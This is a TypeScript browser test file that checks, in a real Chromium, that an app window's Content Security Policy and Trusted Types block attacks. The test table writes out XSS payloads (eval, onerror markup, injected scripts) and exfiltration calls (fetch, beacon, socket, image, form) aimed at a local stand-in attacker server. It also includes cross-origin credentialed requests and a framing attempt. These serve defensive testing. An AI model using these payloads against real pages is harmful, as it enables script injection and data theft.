import { once } from 'node:events';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type Browser, chromium, type Page } from 'playwright';
import { afterAll, beforeAll, beforeEach, describe, expect, onTestFinished, test, vi } from 'vitest';
import { ok } from '#domain/basics/outcome.ts';
import type { Handlers } from '#main/features/handlers.ts';
import { writeEntryFile } from '#main/hosts/web/entry-file.ts';
import { openWebHost, type WebHost } from '#main/hosts/web/web-host.ts';
import { type WindowSource, windowResponder } from '#main/hosts/window-files.ts';
import { CLOSED_STATE, fakeWorkstation, rememberingLog } from '../../support/fakes/fake-workstation.ts';
import { provideBrowser } from '../../support/provision/browser.ts';

const browserHere = provideBrowser();
const text = (body: string, type: string) => ({ body: new TextEncoder().encode(body), type });

/** A page as the window's: its own script and style, and a style element that carries the nonce. */
const files = new Map([
  [
    '/index.html',
    text(
      `<!doctype html><html><head><link rel="stylesheet" href="/own.css">
       <style nonce="__CSP_NONCE__">#root { width: 12px }</style>
       <style>#root { height: 34px }</style></head>
       <body><div id="root"></div><script>window.inline = true</script>
       <script type="module" src="/own.js"></script></body></html>`,
      'text/html; charset=utf-8',
    ),
  ],
  ['/own.css', text('#root { display: block; margin-left: 7px }', 'text/css; charset=utf-8')],
  ['/own.js', text('window.own = true', 'text/javascript; charset=utf-8')],
  ['/bridge.js', text('window.order = [window.own ? "own" : "bridge"]', 'text/javascript; charset=utf-8')],
]);
const source: WindowSource = { respond: (options) => windowResponder(files, options) };

describe.skipIf(!browserHere.present)("the window's policy in a real browser", () => {
  let browser: Browser;
  let attacker: Server;
  const heard: string[] = [];
  let attackerOrigin: string;
  let host: WebHost;
  let page: Page;
  const violations: string[] = [];
  const stating = vi.fn<Handlers['vault.state']>(async () => ok(CLOSED_STATE));

  beforeAll(async () => {
    const executablePath = browserHere.present ? browserHere.path : '';
    browser = await chromium.launch({ executablePath, args: ['--no-sandbox'] });
    attacker = createServer((request, response) => {
      heard.push(`${request.method} ${request.url}`);
      response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('0');
    }).listen(0, '127.0.0.1');
    await once(attacker, 'listening');
    const address = attacker.address();
    attackerOrigin = `http://127.0.0.1:${typeof address === 'object' ? address?.port : 0}`;

    const workstation = fakeWorkstation({ 'vault.state': stating });
    host = await openWebHost({ workstation, window: source, log: rememberingLog(), port: 0, path: null });
    page = await browser.newPage();
    await page.exposeFunction('tellViolation', (directive: string) => violations.push(directive));
    await page.addInitScript(
      "document.addEventListener('securitypolicyviolation', (event) => tellViolation(event.effectiveDirective))",
    );
    await page.goto(host.url);
  });

  afterAll(async () => {
    await browser?.close();
    await host?.close();
    attacker?.closeAllConnections();
    attacker?.close();
  });

  const ours = (path: string): string => `${new URL(host.url).origin}${path}`;

  beforeEach(async () => {
    stating.mockClear();
    await page.goto(ours('/'));
    heard.length = 0;
    violations.length = 0;
  });

  /** Runs an attack as the page itself would, outside the debugger's own call, which may do more than a page. */
  async function attack(script: string): Promise<void> {
    await page.evaluate(`new Promise((done) => setTimeout(() => {
      window.attacker = ${JSON.stringify(attackerOrigin)};
      const run = async () => { ${script} };
      run().catch(() => {}).finally(() => setTimeout(done, 50));
    }))`);
  }

  test('web host, entry page: a browser comes in from a file of the disk, and a reload stays in', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'lastro-entry-'));
    onTestFinished(() => rm(folder, { recursive: true, force: true }));
    const workstation = fakeWorkstation({ 'vault.state': stating });
    const other = await openWebHost({ workstation, window: source, log: rememberingLog(), port: 0, path: null });
    onTestFinished(other.close);
    const fresh = await browser.newPage();
    onTestFinished(() => fresh.close());
    await fresh.goto((await writeEntryFile(folder, 'test', other.url)).address);
    await fresh.waitForURL(`${new URL(other.url).origin}/`);
    await fresh.waitForFunction('window.own');
    await fresh.reload();
    expect(await fresh.evaluate('[window.own, sessionStorage.length, document.cookie]')).toEqual([true, 1, '']);
  });

  test('own scripts and styles work, the bridge first; inline ones do not', async () => {
    const box = await page.locator('#root').evaluate((root) => {
      const { width, height, marginLeft } = getComputedStyle(root);
      return { width, height, marginLeft };
    });
    expect(box).toEqual({ width: '12px', height: '0px', marginLeft: '7px' });
    expect(await page.evaluate('[window.own, window.inline, window.order]')).toEqual([true, undefined, ['bridge']]);
    expect(page.url()).toBe(ours('/'));
  });

  test('the cookie is out of reach of scripts', async () => {
    expect(await page.evaluate('document.cookie')).toBe('');
  });

  test.each([
    ['code made from text', "eval('window.evil = 1')", 'require-trusted-types-for'],
    ['a function made from text', "Function('window.evil = 1')()", 'require-trusted-types-for'],
    [
      'markup with a handler',
      'document.body.innerHTML = \'<img src=x onerror="window.evil = 1">\'',
      'require-trusted-types-for',
    ],
    [
      'a handler in an attribute',
      "document.body.setAttribute('onclick', 'window.evil = 1')",
      'require-trusted-types-for',
    ],
    [
      'a script of text',
      "const script = document.createElement('script'); script.text = 'window.evil = 1'; document.body.append(script)",
      'require-trusted-types-for',
    ],
    [
      'a script from elsewhere',
      "const script = document.createElement('script'); script.src = attacker + '/evil.js'; document.body.append(script)",
      'require-trusted-types-for',
    ],
    ['a module from elsewhere', "await import(attacker + '/evil.js')", 'script-src-elem'],
    ['a worker from elsewhere', "new Worker(URL.createObjectURL(new Blob(['0'])))", 'require-trusted-types-for'],
    ['a request elsewhere', "await fetch(attacker + '/?cpf=1')", 'connect-src'],
    ['a beacon', "navigator.sendBeacon(attacker + '/?cpf=1')", 'connect-src'],
    ['a socket', "new WebSocket(attacker.replace('http', 'ws'))", 'connect-src'],
    ['an event stream', "new EventSource(attacker + '/?cpf=1')", 'connect-src'],
    ['a picture from elsewhere', "new Image().src = attacker + '/?cpf=1'", 'img-src'],
    [
      'a frame',
      "const frame = document.createElement('iframe'); frame.src = attacker; document.body.append(frame)",
      'frame-src',
    ],
    [
      'a style with an address',
      "document.body.setAttribute('style', 'background: url(' + attacker + '/?cpf=1)')",
      'style-src-attr',
    ],
    [
      'a style sheet from elsewhere',
      "const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = attacker; document.body.append(link)",
      'style-src-elem',
    ],
    [
      'a form',
      "const form = document.createElement('form'); form.action = attacker; document.body.append(form); form.submit()",
      'form-action',
    ],
    [
      'another base',
      "const base = document.createElement('base'); base.href = attacker; document.head.append(base)",
      'base-uri',
    ],
    [
      'a plug-in',
      "const plugin = document.createElement('embed'); plugin.src = attacker; document.body.append(plugin)",
      'require-trusted-types-for',
    ],
    ['a second Trusted Types policy', "trustedTypes.createPolicy('mine', {})", 'trusted-types'],
  ])('%s is refused', async (_, script, directive) => {
    await attack(script);
    await expect.poll(() => violations).toContain(directive);
    expect(await page.evaluate('window.evil')).toBeUndefined();
    expect(heard).toEqual([]);
  });

  describe('from the page of another program on this machine', () => {
    beforeEach(async () => {
      await page.goto(`${attackerOrigin}/page`);
    });

    test.each(['cors', 'no-cors'])('a %s message with the cookie reaches no handler', async (mode) => {
      await attack(`window.outcome = await fetch('${ours('/bridge/vault.state')}', {
        method: 'POST', mode: '${mode}', credentials: 'include', body: '{}' }).then(() => 'read', () => 'refused')`);
      expect(await page.evaluate('window.outcome')).toBe('refused');
      expect(stating).not.toHaveBeenCalled();
    });

    test('the window cannot be framed', async () => {
      const reply = page.waitForResponse(ours('/'));
      await attack(`const frame = document.createElement('iframe');
        frame.src = '${ours('/')}'; document.body.append(frame)`);
      expect((await reply).status()).toBe(403);
    });
  });
});
